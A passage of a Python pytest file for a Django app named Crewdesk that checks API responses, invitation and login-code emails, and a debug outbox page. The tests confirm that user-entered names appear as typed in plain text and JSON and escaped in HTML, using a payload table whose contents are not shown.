    tags = _json(api.get(f"{API}/tags"))["items"]
    assert {raw("tag.created"), raw("tag.added")} <= {tag["name"] for tag in tags}

    members = _json(api.get(f"{API}/members"))["items"]
    erin = next(member for member in members if member["username"] == "erin")
    assert [erin[f] for f in ("first_name", "last_name", "email")] == [
        raw("member.first_name"),
        raw("member.last_name"),
        raw("member.email"),
    ]
    assert _json(api.get(f"{API}/me"))["company"]["name"] == raw("company.name")
    activity = _json(api.get(f"{API}/activity", page_size=100))["items"]
    assert any(raw("notice") in entry["text"] for entry in activity)


def test_the_api_names_look_alikes_as_typed(world, api_client, owner):
    api = api_client(owner)
    found = _json(api.get(f"{API}/clients/duplicates", email=raw("client.email")))
    assert raw("other.company_name") in {c["display_name"] for c in found["candidates"]}
    refused = api.post(f"{API}/clients", {"first_name": "Ann", "email": raw("client.email")})
    assert refused.status_code == 409
    assert "&lt;" not in refused.content.decode()
    assert raw("other.company_name") in {c["display_name"] for c in refused.json()["candidates"]}


# --- emails ------------------------------------------------------------------------------------
# Every email goes through notifications.services.email_send: today the team invitation (the
# member's name, the company's name) and the login code (the user's name). Both are plain text;
# an HTML part, once one is added (a template's .html), must escape like a page.


def _assert_email_safe(message, keys: tuple[str, ...]) -> None:
    for content, mimetype in message.alternatives:
        if mimetype == "text/html":
            leaked = [key for key, payload in PAYLOADS.items() if payload.markup in content]
            assert not leaked, f"HTML email shows markup: {leaked}"
            missing = [key for key in keys if PAYLOADS[key].escaped not in content]
            assert not missing, f"HTML email does not show: {missing}"
    # The text part names them (escaped or not: plain text is never run).
    missing = [key for key in keys if PAYLOADS[key].marker not in message.body]
    assert not missing, f"text email does not show: {missing}"


def test_the_invitation_email_is_safe(world):
    (invitation,) = world.emails
    # A subject is a header, not HTML: as typed.
    assert invitation.subject == f"You are invited to {raw('company.name')} on Crewdesk"
    _assert_email_safe(invitation, ("member.first_name", "company.name"))


def test_the_login_code_email_is_safe(world, client, customer, django_capture_on_commit_callbacks):
    client.logout()
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("accounts:login"), {"username": customer.user.username})
    (message,) = mail.outbox
    _assert_email_safe(message, ("customer.first_name",))


def test_a_plain_text_email_shows_names_as_typed(world):
    """A plain-text email is not HTML: names appear as typed, not as HTML entities."""
    (invitation,) = world.emails
    assert raw("member.first_name") in invitation.body
    assert raw("company.name") in invitation.body


def test_the_dev_outbox_shows_emails_escaped(world, client, settings, tmp_path):
    """The outbox page (DEBUG only) shows the kept emails' text in a page."""
    from crewdesk.notifications.backends import DevOutboxBackend

    settings.DEBUG = True
    settings.DEV_OUTBOX_DIR = tmp_path
    settings.DEV_OUTBOX_INNER_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    DevOutboxBackend().send_messages(world.emails)  # as with DEBUG on, a copy is kept
    html = assert_escaped(client.get(reverse("dev_outbox")))
    assert PAYLOADS["member.first_name"].marker in html
    assert PAYLOADS["company.name"].marker in html
